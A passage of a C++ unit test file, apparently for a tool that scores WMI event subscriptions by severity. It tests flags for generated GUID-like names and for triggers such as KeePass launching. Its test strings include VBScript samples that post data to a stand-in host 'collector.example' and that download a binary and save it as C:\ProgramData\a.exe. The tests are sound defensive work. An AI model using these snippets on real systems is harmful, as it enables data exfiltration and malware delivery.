        return std::optional<severity>();
    };
    CHECK(severity_of("Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"POST\", \"http://127.0.0.1:8000/\", False\nh.Send \"x\"") == severity::low);
    CHECK(severity_of("Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"POST\", \"http://collector.example/\", False\nh.Send \"x\"") == severity::medium);
    CHECK(severity_of("Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", \"http://203.0.113.7/a.bin\", False\nh.Send\n"
                      "Set s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile \"C:\\ProgramData\\a.exe\", 2") == severity::high);
}

TEST_CASE("names a program made: GUIDs, hex strings, random mixes of letters and digits") {
    for (const char* name : {"{3F2504E0-4F89-11D3-9A0C-0305E82C3301}", "3f2504e04f8911d39a0c", "a8Xk29Qz7"}) {
        CAPTURE(name);
        mock_collector m;
        m.filter(name, boot_query).command_line_consumer("C", "x.exe").bind(name, "C");
        CHECK(has(fired(m)[0], "WMISUB-STR-016"));
    }
    for (const char* name : {"Win32Updater2", "Contoso Inventory", "BVTFilter", "Filter01"}) {
        CAPTURE(name);
        mock_collector m;
        m.filter(name, boot_query).command_line_consumer("C", "x.exe").bind(name, "C");
        CHECK_FALSE(has(fired(m)[0], "WMISUB-STR-016"));
    }
}

TEST_CASE("a consumer that runs no code is judged by what it writes, not by the trigger alone") {
    const char* const keepass = "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process' AND TargetInstance.Name = 'KeePass.exe'";
    const auto severity_of = [](mock_collector& m, std::string_view id) {
        auto snap = m.collect({});
        const subscription_graph graph(*snap);
        const std::vector<assessment> results = assess(graph, rule_catalog::builtin());
        for (const finding& f : results[0].findings) {
            if (f.id() == id) return std::optional<severity>(f.severity);
        }
        return std::optional<severity>();
    };
    mock_collector runs;
    runs.filter("F", keepass).command_line_consumer("C", "x.exe").bind("F", "C");
    CHECK(severity_of(runs, "WMISUB-TRG-004") == severity::high);
    mock_collector logs;
    logs.filter("F", keepass).log_file_consumer("L", "C:\\Logs\\apps.log", "%TargetInstance.Name% started").bind("F", "L", "LogFileEventConsumer");
    CHECK(severity_of(logs, "WMISUB-TRG-004") == severity::low);
    mock_collector alerts;
    alerts.filter("F", "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND TargetInstance.EventCode = 4625")
        .event_log_consumer("E", "SOC", 4625)
        .bind("F", "E", "NTEventLogEventConsumer");
    CHECK(severity_of(alerts, "WMISUB-TRG-005") == severity::low);
}
